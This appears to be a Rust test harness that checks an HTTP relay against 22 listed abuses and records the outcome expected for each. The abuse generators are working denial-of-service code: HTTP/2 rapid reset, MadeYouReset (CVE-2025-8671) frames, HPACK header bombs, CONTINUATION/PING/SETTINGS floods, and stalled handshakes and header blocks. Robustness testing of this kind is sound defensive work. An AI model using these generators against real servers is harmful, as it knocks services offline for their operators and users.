//! The ways.

use super::{Abuse, Fate, Next, Speech, Way};
use crate::h2wire::{END_HEADERS, END_STREAM, block, code, frame, get, integer, kind, request};

/// The most that the relay takes of a header block before it ends the connection, with the default of `--max-header-bytes`.
const BLOCK: usize = 240_000;

/// The same of a head of HTTP/1.1.
const HEAD: usize = 900_000;

/// A transfer of the benchmark's backend.
const BODY: u64 = 64 << 20;

/// Sends the same octets for ever.
fn flood(octets: &[u8]) -> Way {
    flood_behind(Vec::new(), octets)
}

/// The same behind something that is sent once.
fn flood_behind(first: Vec<u8>, octets: &[u8]) -> Way {
    let piece = octets.repeat((1 << 15) / octets.len() + 1);
    let mut first = Some(first);
    Box::new(move || {
        Next::Send(
            first
                .take()
                .filter(|first| !first.is_empty())
                .unwrap_or_else(|| piece.clone()),
        )
    })
}

/// Sends once, and then holds the connection.
fn hold(octets: Vec<u8>) -> Way {
    let mut octets = Some(octets);
    Box::new(move || octets.take().map_or(Next::Hold, Next::Send))
}

/// Sends what a new stream brings, for streams without end, a hundred at a time.
fn streams(mut of: impl FnMut(u32) -> Vec<u8> + Send + 'static) -> Way {
    let mut next = 1;
    Box::new(move || {
        let piece: Vec<u8> = (0..100).flat_map(|more| of(next + 2 * more)).collect();
        next += 200;
        Next::Send(piece)
    })
}

/// Frames by which a client has a server reset a stream of its own making, so that no limit on resets by clients holds
/// (CVE-2025-8671, "MadeYouReset"), on a stream whose request is whole.
pub fn made_you_reset(stream: u32) -> [(&'static str, Vec<u8>); 6] {
    let window = |increment: u32| frame(kind::WINDOW_UPDATE, 0, stream, &increment.to_be_bytes());
    let priority = |payload: &[u8]| frame(kind::PRIORITY, 0, stream, payload);
    let itself = [&stream.to_be_bytes()[..], &[16]].concat();
    [
        ("a window update of zero", window(0)),
        (
            "a window beyond 2^31-1",
            [window(0x7fff_ffff), window(0x7fff_ffff)].concat(),
        ),
        (
            "HEADERS behind the end",
            frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &block(&[("a", "b")])),
        ),
        ("DATA behind the end", frame(kind::DATA, END_STREAM, stream, b"late")),
        ("a priority below itself", priority(&itself)),
        ("a priority that is too short", priority(&[0; 4])),
    ]
}

fn resets(primitive: usize) -> Way {
    streams(move |stream| [request(stream, "/"), made_you_reset(stream)[primitive].1.clone()].concat())
}

/// A block whose list is far larger than the block: 4 KiB in the dynamic table, then named many times.
pub fn bomb(times: usize) -> Vec<u8> {
    let mut octets = vec![0x40, 1, b'b'];
    let value = vec![b'x'; 4000];
    integer(value.len(), 7, &mut octets);
    octets.extend(&value);
    // Index 62 is the newest entry of the dynamic table (RFC 7541, section 2.3.3).
    octets.extend(std::iter::repeat_n(0x80 | 62, times));
    octets
}

fn bombs() -> Way {
    let mut first = Some([&get("/")[..], &bomb(12_000)].concat());
    let mut stream = 1;
    Box::new(move || {
        let again = [&get("/")[..], &[0xbe; 12_000]].concat();
        let list = first.take().unwrap_or(again);
        stream += 2;
        Next::Send(frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &list))
    })
}

fn small_for_large() -> Way {
    let mut first = get("/");
    first.extend([0x40, 7]);
    first.extend(b"x-large");
    integer(4000, 7, &mut first);
    first.extend([b'1'; 4000]);
    let mut first = Some(first);
    let small = [&[0x82, 0x87, 0x84][..], &[0xbe; 12]].concat();
    streams(move |stream| {
        let list = first.take().unwrap_or_else(|| small.clone());
        frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &list)
    })
}

/// Opens every stream that the server allows for a large body, with that window for each, and reads no frame.
fn large_bodies(window: u32) -> Way {
    let settings = [&[0, 4][..], &window.to_be_bytes()].concat();
    let begin = [
        frame(kind::SETTINGS, 0, 0, &settings),
        frame(kind::WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes()),
    ];
    let requests = (0..100).flat_map(|index| request(2 * index + 1, "/transfer"));
    hold(begin.concat().into_iter().chain(requests).collect())
}

/// A header block whose last frame never comes.
fn unfinished_block() -> Way {
    let mut begin = frame(kind::HEADERS, 0, 1, &get("/"));
    let mut literal = vec![0x00, 1, b'a'];
    integer(BLOCK, 7, &mut literal);
    begin.extend(frame(kind::CONTINUATION, 0, 1, &literal));
    begin.extend(frame(kind::CONTINUATION, 0, 1, &[b'a'; 16_000]).repeat(BLOCK / 16_000));
    hold(begin)
}

/// A ClientHello of 60,000 octets, in records of 16 KiB, of which the last is missing.
fn unfinished_hello() -> Way {
    let record = |first: bool| {
        let mut record = vec![22, 3, 1, 0x40, 0];
        let mut body = vec![0; 16_384];
        if first {
            body[..4].copy_from_slice(&[1, 0, 0xea, 0x60]);
            body[4..6].copy_from_slice(&[3, 3]);
        }
        record.extend(body);
        record
    };
    hold([record(true), record(false), record(false)].concat())
}

fn long_agents() -> Way {
    let head = format!(
        "GET /readyz HTTP/1.1\r\nHost: a\r\nUser-Agent: {}\r\n\r\n",
        "x".repeat(500_000)
    );
    hold(head.into_bytes())
}

/// Every abuse of docs/relay.md.
pub const ABUSES: [Abuse; 22] = [
    Abuse {
        name: "handshakes without an end",
        speech: Speech::Plain,
        holds: 3 * 16_384,
        fate: Fate::Rejected("heads"),
        begin: unfinished_hello,
    },
    Abuse {
        name: "handshakes, one after the other",
        speech: Speech::Http1,
        holds: 0,
        fate: Fate::Served,
        begin: || Box::new(|| Next::Leave),
    },
    Abuse {
        name: "header bombs",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: bombs,
    },
    Abuse {
        name: "small blocks that stand for large ones",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: small_for_large,
    },
    Abuse {
        name: "header blocks without an end",
        speech: Speech::H2,
        holds: BLOCK as u64,
        fate: Fate::Rejected("heads"),
        begin: unfinished_block,
    },
    Abuse {
        name: "heads of HTTP/1.1 without an end",
        speech: Speech::Http1,
        holds: HEAD as u64,
        fate: Fate::Rejected("heads"),
        begin: || hold([b"GET / HTTP/1.1\r\nHost: a\r\nLong: ".to_vec(), vec![b'x'; HEAD]].concat()),
    },
    Abuse {
        name: "user agents of 500,000 octets",
        speech: Speech::Http1,
        holds: 500_000,
        fate: Fate::Served,
        begin: long_agents,
    },
    Abuse {
        name: "rapid reset",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || {
            streams(|stream| {
                let reset = frame(kind::RST_STREAM, 0, stream, &code::CANCEL.to_be_bytes());
                [request(stream, "/"), reset].concat()
            })
        },
    },
    Abuse {
        name: "MadeYouReset, a window update of zero",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || resets(0),
    },
    Abuse {
        name: "MadeYouReset, a window beyond 2^31-1",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || resets(1),
    },
    Abuse {
        name: "MadeYouReset, HEADERS behind the end",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || resets(2),
    },
    Abuse {
        name: "MadeYouReset, DATA behind the end",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || resets(3),
    },
    Abuse {
        name: "MadeYouReset, a priority below itself",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || resets(4),
    },
    Abuse {
        name: "MadeYouReset, a priority that is too short",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || resets(5),
    },
    Abuse {
        name: "large bodies behind windows of zero",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || large_bodies(0),
    },
    Abuse {
        name: "large bodies that nobody reads",
        speech: Speech::H2,
        holds: 100 * BODY,
        fate: Fate::Served,
        begin: || large_bodies(0x7fff_ffff),
    },
    Abuse {
        name: "large bodies over HTTP/1.1 that nobody reads",
        speech: Speech::Http1,
        holds: BODY,
        fate: Fate::Served,
        begin: || hold(b"GET /transfer HTTP/1.1\r\nHost: a\r\n\r\n".repeat(20)),
    },
    Abuse {
        name: "CONTINUATION without end",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Ended,
        begin: || {
            flood_behind(
                frame(kind::HEADERS, 0, 1, &get("/")),
                &frame(kind::CONTINUATION, 0, 1, b""),
            )
        },
    },
    Abuse {
        name: "SETTINGS without end",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || flood(&frame(kind::SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])),
    },
    Abuse {
        name: "PING without end",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || flood(&frame(kind::PING, 0, 0, b"12345678")),
    },
    Abuse {
        name: "empty DATA without end",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || {
            flood_behind(
                frame(kind::HEADERS, END_HEADERS, 1, &get("/")),
                &frame(kind::DATA, 0, 1, b""),
            )
        },
    },
    Abuse {
        name: "long names in trailers",
        speech: Speech::H2,
        holds: 0,
        fate: Fate::Served,
        begin: || {
            streams(|stream| {
                let open = frame(kind::HEADERS, END_HEADERS, stream, &get("/"));
                let trailers = block(&[(&"n".repeat(200), "v")]);
                [open, frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &trailers)].concat()
            })
        },
    },
];
